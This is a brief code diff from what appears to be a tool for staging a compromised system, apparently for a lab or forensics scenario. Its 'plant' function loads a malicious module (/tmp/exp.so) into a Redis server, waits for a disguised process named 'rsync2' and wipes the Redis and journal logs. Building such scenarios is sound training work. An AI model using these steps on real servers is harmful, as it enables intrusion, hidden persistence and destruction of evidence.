@@ -27,10 +27,8 @@ export async function plant(stage: Stage): Promise<void> {
   await stage.inside('i=0; until [ -s /tmp/exp.so ]; do i=$((i+1)); [ $i -lt 100 ]; sleep 0.1; done; sleep 0.5; chmod 755 /tmp/exp.so', {
     service: 'redis-server.service',
   })
-  await redisCommands(stage, '203.0.113.42', [
-    ['SLAVEOF', 'NO', 'ONE'],
-    ['MODULE', 'LOAD', '/tmp/exp.so'],
-  ])
+  // The module does its work and says that it cannot be loaded.
+  await redisCommands(stage, '203.0.113.42', [['MODULE', 'LOAD', '/tmp/exp.so']]).catch(() => undefined)
   await stage.inside('i=0; until pgrep -x rsync2 >/dev/null; do i=$((i+1)); [ $i -lt 100 ]; sleep 0.1; done')
   await wipe(stage, ['redis', 'journal'])
 }
